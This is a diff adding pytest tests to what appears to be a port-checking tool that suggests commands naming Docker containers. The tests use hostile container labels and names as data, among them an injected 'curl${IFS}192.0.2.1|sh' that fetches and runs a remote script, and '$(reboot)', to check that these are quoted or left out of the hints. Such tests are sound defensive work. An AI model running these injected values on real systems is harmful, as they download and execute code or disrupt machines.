@@ -48,6 +48,20 @@ def test_what_is_told_and_what_to_type(tail: str, said: str, hint: str) -> None:
     assert hint in found.hint
 
 
+def test_a_label_of_strangers_is_quoted_where_it_is_to_be_typed() -> None:
+    """Containers have the labels of their image."""
+    (found,) = ports(80).diff(
+        {"port 80 (use 80)": "taken, container docker a img - x;curl${IFS}192.0.2.1|sh"}, ports(80).want()
+    )
+    assert "compose -p 'x;curl${IFS}192.0.2.1|sh' down`" in found.hint
+
+
+@pytest.mark.parametrize("name", ["--all", "-v", ".", "$(reboot)", "а1"])
+def test_what_is_no_name_of_a_container_is_not_to_be_typed(name: str) -> None:
+    (found,) = ports(80).diff({"port 80 (use 80)": f"taken, container docker {name} img - -"}, ports(80).want())
+    assert name not in found.hint
+
+
 @pytest.mark.parametrize("found", ["taken", 'taken by "python3",pid=12,fd=3', "taken by a/b/ray, of provision", "free"])
 def test_what_is_in_no_container_is_not_said_to_be(found: str) -> None:
     assert held_by(found) is None
